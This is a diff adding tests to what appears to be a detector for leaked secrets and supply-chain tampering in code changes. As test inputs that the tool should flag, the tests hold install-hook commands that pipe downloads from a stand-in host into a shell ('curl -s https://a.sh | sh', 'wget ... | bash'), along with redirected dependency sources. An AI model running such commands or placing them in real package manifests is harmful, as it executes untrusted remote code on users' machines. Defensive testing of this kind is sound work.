@@ -152,6 +152,7 @@ test('who still imports a dependency that the change drops is the file that is m
 test('a lock file that cannot be read leaves it unknown', async () => {
   expect(await codes({ 'package.json': WITH_KY, 'package-lock.json': '<<<<<<< HEAD' })).toEqual([
     'unknown RULE_FAILED',
+    'unknown LOCKFILE_UNREADABLE',
   ]);
 });
 
@@ -241,4 +242,111 @@ test.each(ALL_RULES.map(({ id }) => id))('when %s throws, the check is not passe
   const rules = ALL_RULES.map((rule) => (rule.id === id ? { ...rule, judge } : rule));
   const { complete, checks } = await verifyChange(change, {}, [guardrailsOf(rules)]);
   expect([complete, checks.map(({ status }) => status)]).toEqual([false, ['unknown']]);
+});
+
+const HEAD = '-----BEGIN RSA PRIVATE KEY-----';
+const KEY = `${HEAD}\n${'MIIEq7Rk2vXz9LmN4tBw8YcJh3Pd6SfG1aUe5KoTqWz0xVn2'.repeat(2)}\n`;
+
+test.each([
+  ['a generated file', 'src/a.ts', `// @generated\nexport const key = '${TOKEN}';\n`, 'review'],
+  ['a copied file', 'vendor/a.js', `const key = '${TOKEN}';\n`, 'review'],
+  ['a lock file', 'yarn.lock', `# ${TOKEN}\n`, 'review'],
+  ['data', 'data/a.csv', `a,${TOKEN}\n`, 'review'],
+  ['a snapshot', 'src/a.snap', `${TOKEN}\n`, 'review'],
+  ['a file without an ending', 'bin/start', `KEY=${TOKEN} node a.js\n`, 'fail'],
+  ['two bytes for each character', 'a.conf', [...`key=${TOKEN}\n`].join('\0'), 'review'],
+  ['base64', 'a.yaml', `tls: ${Buffer.from(KEY).toString('base64')}\n`, 'fail'],
+  ['two pieces', 'src/a.ts', `export const key = '${TOKEN.slice(0, 9)}' + '${TOKEN.slice(9)}';\n`, 'fail'],
+  [
+    'a line of 9,000 characters',
+    'src/a.ts',
+    `${'f(); '.repeat(1800)}const apiKey = '${TOKEN.slice(4)}';\n`,
+    'review',
+  ],
+  ['the name of a file', `notes/${TOKEN}.md`, 'A note.\n', 'fail'],
+])('a secret is found in %s', async (_where, path, text, status) => {
+  const all = await check({ [path]: text });
+  expect(all.filter(({ code }) => code === 'SECRET_ADDED')).toMatchObject([{ status, file: path }]);
+});
+
+test.each([
+  [
+    'a picture in base64',
+    `src/a.ts`,
+    `export const icon = '${Buffer.from(Uint8Array.from({ length: 300 }, (_, at) => (at * 89) % 256)).toString('base64')}';\n`,
+  ],
+  [
+    'a text in base64',
+    'a.yaml',
+    `note: ${Buffer.from('nothing that anyone has to keep to themselves').toString('base64')}\n`,
+  ],
+  ['pieces of a sentence', 'src/a.ts', "export const text = 'secret: ' + 'nothing of the kind is here';\n"],
+])('nothing is a secret in %s', async (_where, path, text) => {
+  expect(await codes({ [path]: text })).toEqual(['pass']);
+});
+
+const MANIFEST = { name: 'shop', version: '1.0.0', dependencies: { got: '^14.0.0' } };
+const manifest = (more: object): Changed => ({
+  'package.json': `${JSON.stringify({ ...MANIFEST, ...more }, null, 2)}\n`,
+});
+
+test.each<[string, object, readonly string[]]>([
+  [
+    'a download at installation',
+    { scripts: { postinstall: 'curl -s https://a.sh | sh' } },
+    ['fail SCRIPT_RUNS_DOWNLOAD'],
+  ],
+  [
+    'a download by substitution',
+    { scripts: { prepare: 'bash <(wget -qO- https://a.sh)' } },
+    ['fail SCRIPT_RUNS_DOWNLOAD'],
+  ],
+  [
+    'a download in another script',
+    { scripts: { setup: 'curl https://a.sh | sudo bash' } },
+    ['review SCRIPT_RUNS_DOWNLOAD'],
+  ],
+  ['a script at installation', { scripts: { preinstall: 'node a.js' } }, ['review INSTALL_SCRIPT_CHANGED']],
+  ['another script', { scripts: { lint: 'oxlint' } }, ['pass']],
+  ['an archive', { dependencies: { got: 'https://a.sh/got.tgz' } }, ['review DEPENDENCY_REDIRECTED']],
+  [
+    'an archive without encryption',
+    { dependencies: { got: 'http://a.sh/got.tgz' } },
+    ['fail DEPENDENCY_REDIRECTED'],
+  ],
+  ['a repository', { dependencies: { got: 'someone/got#main' } }, ['review DEPENDENCY_REDIRECTED']],
+  ['another package', { dependencies: { got: 'npm:gott@14' } }, ['review DEPENDENCY_REDIRECTED']],
+  ['the same package', { dependencies: { got: 'npm:got@14' } }, ['pass']],
+  ['another range', { dependencies: { got: '^14.1.0' } }, ['pass']],
+  ['a nested override', { overrides: { got: { ms: 'file:../ms' } } }, ['review DEPENDENCY_REDIRECTED']],
+])('a manifest with %s', async (_what, more, expected) => {
+  expect(await codes(manifest(more), {}, { ...FILES, ...manifest({}) } as Files)).toEqual(expected);
+});
+
+const lockOf = (
+  source: string,
+  sum = 'sha512-aaaa',
+  root: object = { dependencies: { got: '^14.0.0' } },
+): string =>
+  JSON.stringify({
+    lockfileVersion: 3,
+    packages: { '': root, 'node_modules/got': { version: '14.0.0', resolved: source, integrity: sum } },
+  });
+const GOT = 'https://registry.npmjs.org/got/-/got-14.0.0.tgz';
+
+test.each([
+  ['another host', lockOf('https://npm.a.sh/got/-/got-14.0.0.tgz'), ['review LOCK_ENTRY_REDIRECTED']],
+  ['no encryption', lockOf(GOT.replace('https', 'http')), ['fail LOCK_ENTRY_REDIRECTED']],
+  ['another sum', lockOf(GOT, 'sha512-bbbb'), ['review LOCK_ENTRY_REDIRECTED']],
+  ['no sum', lockOf(GOT, ''), ['review LOCK_ENTRY_REDIRECTED']],
+  ['a sum of another kind', lockOf(GOT, 'sha256-cccc'), []],
+  ['another package', lockOf(GOT.replace('/got/', '/gott/')), ['review LOCK_ENTRY_REDIRECTED']],
+  [
+    'a range that nobody asks for',
+    lockOf(GOT, 'sha512-aaaa', { dependencies: { got: '^13.0.0' } }),
+    ['review LOCK_ENTRY_REDIRECTED'],
+  ],
+])('a lock entry with %s', async (_what, text, expected) => {
+  const all = await codes({ 'package-lock.json': text }, {}, { ...FILES, 'package-lock.json': lockOf(GOT) });
+  expect(all.filter((code) => code.includes('LOCK_ENTRY'))).toEqual(expected);
 });
